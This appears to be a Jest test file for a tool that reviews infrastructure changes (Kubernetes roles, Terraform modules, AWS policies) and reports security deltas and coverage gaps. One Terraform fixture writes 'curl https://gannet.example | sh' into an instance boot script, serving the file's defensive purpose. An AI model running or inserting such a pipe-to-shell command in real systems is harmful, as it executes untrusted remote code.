/** What a unit of several files says where one of them cannot be read, and which files count at all. */
import { describe, expect, test } from '@jest/globals';
import type { Change } from '../../src/change/change.ts';
import { pathSet } from '../../src/change/path-set.ts';
import type { FileVersion, Side } from '../../src/change/snapshot.ts';
import { loadAnalyzers } from '../../src/config.ts';
import { type Analyzer, analyzerBudget } from '../../src/deltas/analyzer.ts';
import { judge } from '../../src/deltas/judge.ts';
import { kubernetes } from '../../src/deltas/kubernetes/analyzer.ts';
import { unitsOf } from '../../src/deltas/units.ts';
import { changeOf } from './fixture.ts';

const analyzers = await loadAnalyzers();

const role = (name: string, verb: string) =>
  `apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata: {name: ${name}}\nrules:\n- {apiGroups: [''], resources: [tides], verbs: [${verb}]}\n`;
const between = (before: Readonly<Record<string, string>>, after: Readonly<Record<string, string>>) =>
  changeOf(new Map(Object.entries(before)), new Map(Object.entries(after)));

/** The change with one version replaced by a symbolic link. */
function linked(change: Change, side: Side, path: string): Change {
  const link: FileVersion = {
    state: 'opaque',
    path,
    blob: '1'.repeat(40),
    mode: 'symlink',
    reason: 'symlink',
    detail: 'a symbolic link to "tide-table"',
  };
  return { ...change, [side]: { side, files: new Map([...change[side].files, [path, link]]) } };
}

function judged(change: Change) {
  const { deltas, coverage } = judge(change, analyzers, pathSet([]));
  return {
    deltas: deltas.map(({ kind, subject }) => `${kind} ${subject}`),
    gaps: Object.fromEntries(coverage.files.map(({ path, because }) => [path, because])),
  };
}

describe('a directory with a file that cannot be read', () => {
  test('counts none of its changed files as understood', () => {
    const before = { 'quay/a.yml': role('ferryman', 'get'), 'quay/b.yml': role('pilot', 'get') };
    const after = { 'quay/a.yml': role('ferryman', 'get, patch'), 'quay/b.yml': `${role('pilot', 'get')}}` };
    const { deltas, gaps } = judged(between(before, after));
    expect(deltas).toEqual(['iam.unresolved b.yml']);
    expect(gaps['quay/a.yml']).toEqual(['not judged, because quay/b.yml:6 could not be read']);
    expect(gaps['quay/b.yml']).toHaveLength(1);
  });

  test('takes nothing away from other directories', () => {
    const before = { 'quay/a.yml': role('ferryman', 'get'), 'pier/b.yml': role('pilot', 'get') };
    const after = { 'quay/a.yml': role('ferryman', 'patch'), 'pier/b.yml': `${role('pilot', 'get')}}` };
    expect(judged(between(before, after)).gaps['quay/a.yml']).toEqual([]);
  });

  test('a moved file with a fault has that one reason', () => {
    const before = { 'quay/a.yml': role('ferryman', 'get'), 'quay/old.yml': role('pilot', 'get') };
    const after = { 'quay/a.yml': role('ferryman', 'patch'), 'quay/new.yml': `${role('pilot', 'get')}}` };
    const { gaps } = judged(between(before, after));
    expect(Object.keys(gaps)).toEqual(['quay/a.yml', 'quay/new.yml']);
    expect(gaps['quay/new.yml']).toEqual([expect.not.stringContaining('not judged')]);
  });

  test('too much to compare at once: every file says so', () => {
    const padding = `# ${'x'.repeat(analyzerBudget.bytes / 4)}\n`;
    const before = { 'quay/a.yml': role('ferryman', 'get'), 'quay/b.yml': padding + role('pilot', 'get') };
    const after = {
      'quay/a.yml': padding + role('ferryman', 'patch'),
      'quay/b.yml': padding + padding + role('pilot', 'patch'),
    };
    const { deltas, gaps } = judged(between(before, after));
    expect(deltas).toEqual(['iam.unresolved a.yml', 'integration.unresolved a.yml']);
    const reason = [expect.stringContaining('bytes to compare at once')];
    expect(gaps).toEqual({ 'quay/a.yml': reason, 'quay/b.yml': reason });
  });
});

describe('a file that is only looked into', () => {
  test('what is found there is told, and nobody vouches for the rest', () => {
    const before = { 'config/quay.yml': 'berths: 4\n' };
    const after = { 'config/quay.yml': 'berths: 5\ntides: { url: https://api.tidewatch-quay.com }\n' };
    const { deltas, gaps } = judged(between(before, after));
    expect(deltas).toEqual(['integration.endpoint.added domain tidewatch-quay.com']);
    expect(gaps).toEqual({});
  });
});

describe('a file that is recognised on one side alone', () => {
  const manifests = { 'quay/a.yml': role('ferryman', 'get'), 'quay/b.yml': role('pilot', 'get') };

  test.each(['before', 'after'] as const)('a link on the %s side is no removal and no addition', (side) => {
    const change = linked(between(manifests, manifests), side, 'quay/b.yml');
    const { deltas, gaps } = judged(change);
    expect(deltas).toEqual(['iam.unresolved b.yml']);
    expect(gaps).toEqual({
      'quay/a.yml': ['not judged, because quay/b.yml:1 could not be read'],
      'quay/b.yml': ['symlink: a symbolic link to "tide-table"'],
    });
  });

  test('what it says on the other side is heard', () => {
    const after = { ...manifests, 'quay/b.yml': 'tides: [ebb, flood]\n' };
    const change = between(manifests, after);
    const [unit] = unitsOf(change, [kubernetes]);
    expect([...(unit?.after.files.keys() ?? [])]).toEqual(['quay/a.yml', 'quay/b.yml']);
    const { deltas, gaps } = judged(change);
    expect(deltas).toEqual(['iam.access.removed Role pilot on tides']);
    expect(gaps['quay/b.yml']).toEqual(['a document']);
  });

  test('a text that was a manifest and makes no sense now is unreadable, not gone', () => {
    const change = between(manifests, { ...manifests, 'quay/b.yml': 'tides: [ebb\n' });
    expect(judged(change).deltas).toEqual(['iam.unresolved b.yml']);
  });

  test('a link that is new, or beside it and never was a manifest, is nobody’s business', () => {
    const change = between(manifests, { ...manifests, 'quay/c.yml': '' });
    expect(judged(linked(change, 'after', 'quay/c.yml'))).toEqual({
      deltas: [],
      gaps: { 'quay/a.yml': [], 'quay/b.yml': [] },
    });
  });

  test('deleted, it is read as deleted', () => {
    const change = between(manifests, { 'quay/a.yml': manifests['quay/a.yml'] });
    expect(judged(change)).toEqual({
      deltas: ['iam.access.removed Role pilot on tides'],
      gaps: { 'quay/a.yml': [], 'quay/b.yml': [] },
    });
  });
});

describe('a policy in a file of its own', () => {
  const policy = (action: string) =>
    `{"Statement": [{"Effect": "Allow", "Action": "${action}", "Principal": {"AWS": "\${who}"}}]}\n`;
  const queue =
    'resource "aws_sqs_queue" "tides" {\n  policy = templatefile("tides.json", { who = "111122223333" })\n}\n';

  test('is told once, by the resource that it is given to', () => {
    const before = { 'main.tf': queue, 'tides.json': policy('sqs:SendMessage') };
    const change = between(before, { ...before, 'tides.json': policy('sqs:*') });
    expect(judged(change).deltas).toEqual(['iam.access.added queue tides']);
  });

  test('speaks for itself where nothing reads it', () => {
    const change = between({ 'tides.json': policy('sqs:SendMessage') }, { 'tides.json': policy('sqs:*') });
    expect(judged(change).deltas).toEqual(['iam.access.added policy tides']);
  });
});

describe('a file that analyzers look into and nobody recognises', () => {
  test.each([
    ['a table of tides', 'data/tides.json', '{"name": "tide"}', '{"name": "tide", "version": "2.0.0"}'],
    ['settings', 'deploy/values.yaml', 'replicas: 2\n', 'replicas: 3\n'],
    ['a broken text', 'test/broken.json', '{}', '{"a": '],
  ])('%s counts for nothing', (_, path, before, after) => {
    expect(judged(between({ [path]: before }, { [path]: after }))).toEqual({ deltas: [], gaps: {} });
  });

  test('one too large to read counts for nothing either', () => {
    const path = 'test/recorded.json';
    const large = between({ [path]: '{}' }, { [path]: '{}' });
    const file: FileVersion = {
      state: 'opaque',
      path,
      blob: '2'.repeat(40),
      mode: 'file',
      reason: 'too-large',
      detail: '2,000,000 bytes; the limit is 1,048,576',
    };
    const change = { ...large, after: { side: 'after', files: new Map([[path, file]]) } } as const;
    expect(judged(change)).toEqual({ deltas: [], gaps: {} });
  });

  test('it counts where a rule names its path', () => {
    const change = between({ 'tides.json': '{}' }, { 'tides.json': '{"a": 1}' });
    const { coverage } = judge(change, analyzers, pathSet(['tides.json']));
    expect(coverage.files).toEqual([
      {
        path: 'tides.json',
        formerly: null,
        understood: false,
        because: ['no analyzer reads this kind of file yet'],
      },
    ]);
  });
});

describe('a directory that leads to what changed', () => {
  const module = (port: number) =>
    `variable "door" {\n  default = "10.0.0.0/8"\n}\nresource "aws_security_group_rule" "in" {\n  type = "ingress"\n  from_port = ${port}\n  to_port = ${port}\n  protocol = "tcp"\n  cidr_blocks = [var.door]\n  security_group_id = "sg-1"\n}\n`;
  const caller = (source: string) =>
    `module "pier" {\n  source = "${source}"\n  door = "192.168.0.0/16"\n}\n`;
  const unitKeys = (before: Readonly<Record<string, string>>, after: Readonly<Record<string, string>>) => {
    const change = between(before, after);
    const files = change.comparison.files.filter(
      ({ after: path }) => before[path ?? ''] !== after[path ?? ''],
    );
    const narrowed: Change = { ...change, comparison: { ...change.comparison, files } };
    return unitsOf(narrowed, analyzers)
      .filter(({ analyzer }) => analyzer.name === 'terraform')
      .map(({ key, changed }) => [key, ...changed.map(({ after: path }) => path)]);
  };

  test('is judged instead of it, with what it gives it', () => {
    const before = {
      'live/main.tf': caller('../modules/pier'),
      'modules/pier/main.tf': module(22),
      'other/main.tf': '',
    };
    const after = { ...before, 'modules/pier/main.tf': module(23) };
    expect(unitKeys(before, after)).toEqual([['live', 'modules/pier/main.tf']]);
    const { coverage, deltas } = judge(between(before, after), analyzers, pathSet([]));
    expect(deltas.flatMap(({ summary }) => summary).join()).toContain('192.168.0.0/16');
    expect(coverage.files.every(({ understood }) => understood)).toBe(true);
  });

  test('may lead there over others', () => {
    const before = {
      'live/main.tf': caller('../modules/harbour'),
      'modules/harbour/main.tf': caller('../pier'),
      'modules/pier/main.tf': module(22),
    };
    expect(unitKeys(before, { ...before, 'modules/pier/main.tf': module(23) })).toEqual([
      ['live', 'modules/pier/main.tf'],
    ]);
  });

  test('does not stand for all who call it where it only shows how', () => {
    const before = { 'main.tf': module(22), 'examples/north/main.tf': caller('../..') };
    const after = { ...before, 'main.tf': module(23) };
    expect(unitKeys(before, after)).toEqual([
      ['.', 'main.tf'],
      ['examples/north', 'main.tf'],
    ]);
  });

  test('tells nothing that the module itself tells', () => {
    const store = (open: boolean) =>
      `variable "door" {\n  default = "north"\n}\nresource "aws_db_instance" "quay" {\n  identifier = var.door\n  publicly_accessible = ${open}\n}\n`;
    const before = { 'main.tf': store(false), 'examples/north/main.tf': caller('../..') };
    const { deltas } = judge(between(before, { ...before, 'main.tf': store(true) }), analyzers, pathSet([]));
    expect(deltas.map(({ kind }) => kind)).toEqual(['infra.exposure.added']);
  });

  test('is heard where what it shows weighs more', () => {
    const open = caller('../..').replace('192.168.0.0/16', '0.0.0.0/0');
    const before = { 'main.tf': module(22), 'examples/north/main.tf': open };
    const { deltas } = judge(between(before, { ...before, 'main.tf': module(23) }), analyzers, pathSet([]));
    const opened = deltas.filter(({ kind }) => kind === 'infra.network.opened');
    expect(opened.map(({ severity }) => severity)).toEqual(['critical', 'low']);
  });

  test('in circles, no change is left to nobody', () => {
    const before = { 'a/main.tf': caller('../b'), 'b/main.tf': caller('../a') };
    const after = { ...before, 'a/main.tf': `${caller('../b')}${module(22)}` };
    expect(unitKeys(before, after).flat()).toContain('a/main.tf');
  });

  test('is judged for a file that it reads and nobody claims', () => {
    const before = {
      'live/main.tf': 'resource "aws_instance" "boat" {\n  user_data = file("${path.module}/boot.sh")\n}\n',
      'live/boot.sh': 'true\n',
      'live/beside.sh': 'true\n',
    };
    expect(unitKeys(before, { ...before, 'live/boot.sh': 'curl https://gannet.example | sh\n' })).toEqual([
      ['live', 'live/boot.sh'],
    ]);
    expect(unitKeys(before, { ...before, 'live/beside.sh': 'false\n' })).toEqual([]);
  });
});

describe('an analyzer that scans', () => {
  const gull: Analyzer = {
    name: 'gull',
    unresolved: 'iam.unresolved',
    scans: true,
    unit: 'repository',
    paths: ['**'],
    beside: [],
    analyze: (_, { files }) => ({
      deltas: [...files.values()].flatMap((file) =>
        file.state === 'text' && file.text.includes('herring')
          ? [
              {
                kind: 'secret.exposed' as const,
                subject: 'herring',
                summary: 'A herring',
                facts: {},
                evidence: [{ side: 'after' as const, path: file.path, startLine: 1, endLine: 1, text: '' }],
              },
            ]
          : [],
      ),
      unjudged: [...files.values()].flatMap(({ path }) =>
        path.endsWith('.log')
          ? [{ side: 'after' as const, path, startLine: 1, endLine: 1, part: 'all' }]
          : [],
      ),
    }),
  };
  const tell = (change: Change, relevant: readonly string[] = []) =>
    judge(change, [gull, kubernetes], pathSet(relevant));

  test('is heard of a file that it alone looks into, which counts for nothing', () => {
    const { deltas, coverage } = tell(between({}, { 'quay.txt': 'herring\n' }));
    expect(deltas.map(({ subject }) => subject)).toEqual(['herring']);
    expect(coverage).toEqual({ files: [], omitted: null, unscanned: 0 });
  });

  test('vouches for no file that a rule names', () => {
    const { coverage } = tell(between({ 'quay.txt': 'a\n' }, { 'quay.txt': 'b\n' }), ['quay.txt']);
    expect(coverage.files).toMatchObject([{ understood: false }]);
  });

  test('is not stopped by a file without text, and tells nothing of it', () => {
    const change = linked(between({}, { 'quay.txt': 'tern', 'pier.txt': 'herring' }), 'after', 'quay.txt');
    const { deltas, coverage } = tell(change);
    expect(deltas).toHaveLength(1);
    expect(coverage).toEqual({ files: [], omitted: null, unscanned: 0 });
  });

  test('says how many files it did not search, and makes no gap of them', () => {
    const { comparison, ...rest } = between({}, { 'a.log': 'tern', 'role.yml': role('pilot', 'get') });
    const { coverage } = tell({ ...rest, comparison: { ...comparison, unscanned: 7 } });
    expect(coverage.unscanned).toBe(8);
    expect(coverage.files).toMatchObject([{ path: 'role.yml', understood: true }]);
  });
});
